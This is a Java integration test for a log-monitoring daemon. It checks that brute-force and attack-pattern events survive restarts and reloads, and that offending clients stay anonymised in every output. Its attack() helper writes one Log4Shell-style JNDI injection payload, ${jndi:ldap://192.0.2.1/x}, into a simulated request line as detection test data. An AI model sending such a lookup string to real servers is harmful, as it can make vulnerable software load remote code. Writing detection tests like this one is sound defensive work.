package io.apilog.blackbox;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Who should not be here, of a daemon that is killed, started again and reloaded: counted once, and nowhere by name. */
class SecurityIT {
    private static final String ADDRESS = "198.51.100.77";

    @TempDir
    Path dir;

    private AccessLog log;
    private Path config;

    @BeforeEach
    void make_the_log_and_the_configuration() throws IOException {
        log = new AccessLog(dir.resolve("access.log"));
        log.append();
        config = Files.writeString(dir.resolve("apilog.yaml"), """
                sources: [{name: web, paths: ["%s"]}]
                state: {dir: "%s", save_interval: 1s}
                web: {enable_lifecycle: true}
                """.formatted(log.path(), dir.resolve("state")));
    }

    private RunningDaemon start() {
        return ApilogCommand.following("--config.file=" + config).start().awaitReady();
    }

    private static String line(int second, String request, int status, String user) {
        return "%s - %s [21/Nov/2026:09:%02d:%02d +0000] \"%s HTTP/1.1\" %d 51 \"-\" \"Mozilla/5.0 (X11) Firefox/140.0\"\n"
                .formatted(ADDRESS, user, second / 60, second % 60, request, status);
    }

    private void attack(int second) {
        StringBuilder lines = new StringBuilder();
        for (int i = 0; i < 6; i++) {
            lines.append(line(second + i, "POST /login", 401, "planted-name" + i));
        }
        lines.append(line(second + 6, "GET /items?planted=$%7Bjndi:ldap://192.0.2.1/x%7D", 404, "-"));
        log.append(lines.toString());
    }

    private static double events(Exposition metrics, String kind) {
        return metrics.sum("apilog_security_events_total", Map.of("source", "web", "kind", kind));
    }

    @Test
    void events_go_on_over_a_kill_and_a_reload() {
        try (RunningDaemon daemon = start()) {
            attack(0);
            Exposition metrics = daemon.awaitAccepted(7);
            assertThat(events(metrics, "brute_force")).isEqualTo(1);
            assertThat(events(metrics, "attack_pattern")).isEqualTo(1);
            assertThat(metrics.sum("apilog_security_active_sources", Map.of("kind", "brute_force")))
                    .isEqualTo(1);
            daemon.scrape();
            daemon.kill();
        }
        attack(400);
        try (RunningDaemon daemon = start()) {
            Exposition metrics = daemon.awaitAccepted(14);
            assertThat(events(metrics, "brute_force")).isEqualTo(2);
            assertThat(metrics.sum("apilog_attack_requests_total", Map.of("pattern", "jndi")))
                    .isEqualTo(2);
            assertThat(daemon.post("/-/reload").statusCode()).isEqualTo(200);
            attack(800);
            assertThat(events(daemon.awaitAccepted(21), "brute_force")).isEqualTo(3);
        }
    }

    @Test
    void offenders_are_shown_to_this_machine_alone_and_nobody_by_name() throws IOException {
        try (RunningDaemon daemon = start()) {
            attack(0);
            daemon.awaitAccepted(7);
            daemon.scrape();
            assertThat(body(daemon, "/-/security"))
                    .containsPattern("client-[0-9a-f]{12} +web +2 ")
                    .contains("brute_force, attack_pattern ");
            assertThat(body(daemon, "/-/security", "Accept", "application/json"))
                    .contains("\"brute_force\"");
            assertThat(daemon.get("/-/security", "X-Forwarded-For", "192.0.2.1").statusCode())
                    .isEqualTo(403);
            for (String shown : List.of(
                    body(daemon, "/-/security"),
                    body(daemon, "/metrics"),
                    body(daemon, "/"),
                    body(daemon, "/-/overview"),
                    daemon.err())) {
                assertThat(shown).doesNotContain("198.51.100").doesNotContain("planted");
            }
            daemon.stop();
        }
        try (Stream<Path> files = Files.walk(dir.resolve("state"))) {
            files.filter(Files::isRegularFile)
                    .forEach(file -> assertThat(latin(file))
                            .as(file.toString())
                            .doesNotContain("198.51.100")
                            .doesNotContain("planted"));
        }
    }

    private static String body(RunningDaemon daemon, String path, String... headers) {
        return new String(daemon.get(path, headers).body(), StandardCharsets.UTF_8);
    }

    private static String latin(Path file) {
        try {
            return Files.readString(file, StandardCharsets.ISO_8859_1);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
